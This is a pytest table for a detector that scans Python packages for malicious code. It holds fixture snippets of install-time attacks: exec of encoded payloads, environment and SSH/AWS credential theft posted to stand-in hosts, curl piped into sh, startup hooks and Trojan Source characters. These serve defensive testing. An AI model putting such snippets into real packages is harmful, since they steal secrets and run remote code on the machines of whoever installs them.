"""check_code over hand-written members: each threat next to the benign code it resembles."""

from __future__ import annotations

import pytest

from analysis.artifact import ArchiveContents, ArchiveKind, Member
from analysis.code import check_code
from analysis.model import Finding, Severity

C, H, M, L, N = (Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.INFO)
SDIST = "demo-1.0.tar.gz"
WHEEL = "demo-1.0-py3-none-any.whl"
PAYLOAD = "cHJpbnQoMSkgICAgICAgICAgICAgICAgICAgICAgICAgICAgIA=="  # print(1), padded: harmless


def scan(files: dict[str, str | bytes], filename: str = SDIST) -> tuple[Finding, ...]:
    kind = ArchiveKind.SDIST if filename.endswith(".tar.gz") else ArchiveKind.WHEEL
    members = tuple(
        Member(path, len(data), data.encode() if isinstance(data, str) else data)
        for path, data in files.items()
    )
    return check_code(ArchiveContents(filename, kind, members))


def setup_py(body: str) -> dict[str, str | bytes]:
    return {"demo-1.0/setup.py": body, "demo-1.0/PKG-INFO": "Name: demo\n"}


def worst(findings: tuple[Finding, ...], check_id: str) -> Severity | None:
    levels = [f.severity for f in findings if f.check_id == check_id]
    return max(levels) if levels else None


CASES = [
    # ---- decode -> exec
    (setup_py(f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"), "code.decode-exec", C,
     "base64 literal executed by setup.py at install time"),
    (setup_py(f"import base64 as b\nx = b.b64decode('{PAYLOAD}')\ny = x\neval(compile(y, 'f', 'exec'))\n"),
     "code.decode-exec", C, "alias and two variables between decode and exec"),
    (setup_py(f"import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'{PAYLOAD}')))\n"),
     "code.decode-exec", C, "marshal + zlib into exec"),
    (setup_py(f"from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'{PAYLOAD}'))\n"),
     "code.decode-exec", C, "Fernet decrypt into exec"),
    (setup_py("b = getattr(__builtins__, 'ev' + 'al')\nb(''.join(chr(c) for c in [112, 114, 105]))\n"),
     "code.decode-exec", C, "chr-join into eval fetched through builtins"),
    (setup_py(f"exec('{PAYLOAD}'[::-1])\n"), "code.decode-exec", C, "reversed string executed"),
    ({"demo/__init__.py": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"},
     "code.decode-exec", C, "decode->exec in a package __init__ runs on import"),
    ({"demo/util.py": f"import base64\ndef f():\n    exec(base64.b64decode('{PAYLOAD}'))\n"},
     "code.decode-exec", H, "decode->exec in a function: only when called"),
    ({"demo/util.py": "import base64\ndef f(blob):\n    exec(base64.b64decode(blob))\n"},
     "code.decode-exec", L, "no shipped payload: a plugin loader, not a dropper"),
    (setup_py("import base64\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB')\n"
              "open('icon.png', 'wb').write(ICON)\n"),
     "code.decode-exec", None, "benign: a decoded icon written to a file, never executed"),
    (setup_py("exec(open('demo/_version.py').read())\n"), "code.decode-exec", None,
     "benign: the classic version-reading idiom"),
    # ---- exfiltration
    (setup_py("import os, requests\nrequests.post('https://x.example/c', data=dict(os.environ))\n"),
     "code.exfiltration", C, "the whole environment posted at install time"),
    (setup_py("import socket, urllib.request as u\nh = socket.gethostname()\n"
              "u.urlopen('https://x.example/?h=' + h)\n"),
     "code.exfiltration", C, "hostname sent at install time through a variable"),
    ({"demo/__init__.py": "import os, requests\nk = open(os.path.expanduser('~/.aws/credentials')).read()\n"
                          "requests.post('https://x.example', data=k)\n"},
     "code.exfiltration", H, "cloud credentials sent on import"),
    ({"demo/steal.py": "import requests\ndef go():\n    k = open('/home/u/.ssh/id_rsa').read()\n"
                       "    requests.post('https://x.example', data=k)\n"},
     "code.exfiltration", M, "ssh key sent from a function"),
    ({"demo/client.py": "import os, requests\ndef call():\n    token = os.environ['API_TOKEN']\n"
                        "    return requests.get('https://api.example', headers={'t': token})\n"},
     "code.exfiltration", None, "benign: an SDK sends its own API token from the environment"),
    (setup_py("import os, urllib.request\nCC = os.environ.get('CC', 'gcc')\n"
              "urllib.request.urlretrieve('https://example.org/lib.tar.gz', 'lib.tar.gz')\n"),
     "code.exfiltration", None, "benign: reads CC and downloads a source tarball, sends no data"),
    # ---- download -> exec
    (setup_py("import os, urllib.request\nurllib.request.urlretrieve('http://x.example/a', '/tmp/a')\n"
              "os.chmod('/tmp/a', 0o755)\nos.system('/tmp/a')\n"),
     "code.download-exec", C, "download, chmod, run at install time"),
    (setup_py("import os\nos.system('curl -s https://x.example/i.sh | sh')\n"),
     "code.download-exec", C, "curl piped into sh at install time"),
    (setup_py("import requests\nexec(requests.get('https://x.example/p').text)\n"),
     "code.download-exec", C, "remote code executed"),
    ({"demo/data.py": "import urllib.request\ndef fetch_dataset(path):\n"
                      "    urllib.request.urlretrieve('https://data.example/iris.csv', path)\n"},
     "code.download-exec", None, "benign: an opt-in dataset download"),
    # ---- process spawn
    (setup_py("import subprocess\nsubprocess.check_call(['whoami'])\n"), "code.process-spawn", M,
     "an unexplained command at install time"),
    (setup_py("import subprocess\nsubprocess.call('powershell -w hidden -c calc', shell=True)\n"),
     "code.process-spawn", H, "powershell at install time"),
    (setup_py("import subprocess as sp\nsp.check_call(['gcc', '-c', 'x.c'])\n"
              "v = sp.check_output(['git', 'describe', '--tags'])\n"
              "sp.check_call(['pkg-config', '--cflags', 'libxml-2.0'])\n"),
     "code.process-spawn", None, "benign: compiler, git describe and pkg-config"),
    (setup_py("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'cython', 'x.pyx'])\n"),
     "code.process-spawn", None, "benign: a Cython build through the running interpreter"),
    # ---- shady URLs
    (setup_py("import requests\nrequests.post('https://discord.com/api/webhooks/123456789012345678/"
              "abcdefghijklmnopqrstuvwxyz0123456789', json={'a': 1})\n"),
     "code.shady-url", H, "a Discord webhook with its token next to a send"),
    ({"demo/net.py": "URL = 'http://93.184.216.34:8080/x'\n"}, "code.shady-url", None,
     "a raw public IP in a module that never runs on its own and never sends: info, dropped"),
    (setup_py("U = 'https://abc.ngrok-free.app/x'\n"), "code.shady-url", L, "a tunnel URL alone"),
    (setup_py("U = 'http://192.168.1.10/x'\n"), "code.shady-url", None, "benign: a private IP"),
    (setup_py("'''Post to https://pastebin.com/raw/abc for help.'''\n"), "code.shady-url", None,
     "benign: URLs in docstrings are prose"),
    ({"demo/bot.py": "import requests\nAPI = 'https://discord.com/api/webhooks/{id}/{token}'\n"
                     "def send(i, t, m):\n    requests.post(API.format(id=i, token=t), json=m)\n"},
     "code.shady-url", None, "benign: a webhook library's URL template"),
    # ---- credential access without a send
    (setup_py("data = open('/etc/passwd').read()\n"), "code.credential-access", M,
     "reads /etc/passwd at install time"),
    # ---- obfuscation
    (setup_py("import builtins\nf = getattr(builtins, 'ex' + 'ec')\n"), "code.obfuscation", M,
     "exec fetched by a built-up name"),
    ({"demo/compat.py": "text_type = getattr(__builtins__, 'unicode', str)\n"}, "code.obfuscation", L,
     "a Python 2 compat lookup: low only"),
    (setup_py("from pytransform import pyarmor_runtime\npyarmor_runtime()\n"), "code.obfuscation", M,
     "a PyArmor-encrypted setup.py"),
    (setup_py("x = 1" + " " * 200 + "; exec('print(1)')\n"), "code.obfuscation", M,
     "code hidden far right of a long run of spaces"),
    # ---- false positives found on real wheels, rewritten
    ({"demo/compat.py": "import builtins\nexec_ = getattr(builtins, 'exec')\n",
      "demo/__init__.py": "from . import compat\n"}, "code.obfuscation", L,
     "FP regression: a six-style compat alias of exec imported on import"),
    ({"demo/errors.py": "def lookup(name):\n    return getattr(__builtins__, name, OSError)\n"
                        "E = lookup('TimeoutError')\n",
      "demo/__init__.py": "from .errors import E\n"}, "code.obfuscation", L,
     "FP regression: a builtin exception looked up by a variable name on import"),
    ({"demo/tests/test_url.py": "import socket, subprocess\ndef test_v6():\n"
                                "    u = 'ws://[2a03:4000:1:2::3]/r'\n"
                                "    socket.create_connection(('h', 1))\n"},
     "code.shady-url", L, "FP regression: an IPv6 literal in a test next to socket code"),
    # ---- invisible unicode
    ({"demo/__init__.py": "access = 'user'\nif access != 'none\u202e\u2066':\n    pass\n"},
     "code.invisible-unicode", L, "bidi control inside a string"),
    ({"demo/__init__.py": "x = 1 # \u202e comment\n"}, "code.invisible-unicode", M,
     "bidi control in a comment: Trojan Source"),
    ({"demo/__init__.py": "name = 'cafe\u200d'\n"}, "code.invisible-unicode", None,
     "benign: a zero-width joiner in text"),
    ({"demo/util.py": "x = 1  # a pirate flag \U0001f3f4\u200d\u2620\n"}, "code.invisible-unicode", None,
     "FP regression: a zero-width joiner inside an emoji in a comment"),
    ({"demo/util.py": "x = 1  # ends with a stray space\u200b\n"}, "code.invisible-unicode", None,
     "FP regression: a zero-width space pasted into a comment"),
    # ---- hooks
    ({"evil.pth": "import os; exec('print(1)')\n", "demo/__init__.py": ""}, "code.startup-hook", L,
     "a .pth line that runs code at every start", WHEEL),
    ({"distutils-precedence.pth": "import _distutils_hack\n", "_distutils_hack/__init__.py": "x = 1\n"},
     "code.startup-hook", N, "a plain import line: context", WHEEL),
    ({"sitecustomize.py": "x = 1\n"}, "code.startup-hook", L, "a shipped sitecustomize", WHEEL),
    ({"demo-1.0.dist-info/entry_points.txt": "[console_scripts]\npip = demo.cli:main\n"},
     "code.command-shadow", M, "a non-pip package installing a pip command", WHEEL),
    ({"demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ndemo = demo.cli:main\n"},
     "code.command-shadow", None, "benign: its own command", WHEEL),
    (setup_py("from setuptools import setup\nsetup(entry_points={'console_scripts': ['sudo=demo:m']})\n"),
     "code.command-shadow", M, "setup(entry_points=...) shadowing sudo"),
    (setup_py("from setuptools import setup\nfrom setuptools.command.install import install\n"
              "class I(install):\n    def run(self):\n        install.run(self)\n"
              "setup(cmdclass={'install': I})\n"),
     "code.cmdclass-override", N, "a cmdclass override alone is context"),
    ({"demo-1.0/pyproject.toml": "[build-system]\nrequires = ['evil @ https://x.example/e.zip']\n"
                                 "build-backend = 'setuptools.build_meta'\n"},
     "code.build-backend", M, "a build requirement from a URL"),
    ({"demo-1.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\n"
                                 "backend-path = ['_build']\n",
      "demo-1.0/_build/backend.py": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"},
     "code.decode-exec", C, "an in-tree build backend runs at install time"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("files", "check_id", "severity", "reason", "filename"),
    [
        (
            *case,
            SDIST
            if "demo-1.0/setup.py" in case[0] or "demo-1.0/pyproject.toml" in case[0]
            else WHEEL,
        )
        if len(case) == 4
        else case
        for case in CASES
    ],
    ids=[case[3] for case in CASES],
)
def test_table(
    files: dict[str, str | bytes],
    check_id: str,
    severity: Severity | None,
    reason: str,
    filename: str,
) -> None:
    assert worst(scan(files, filename), check_id) == severity, reason
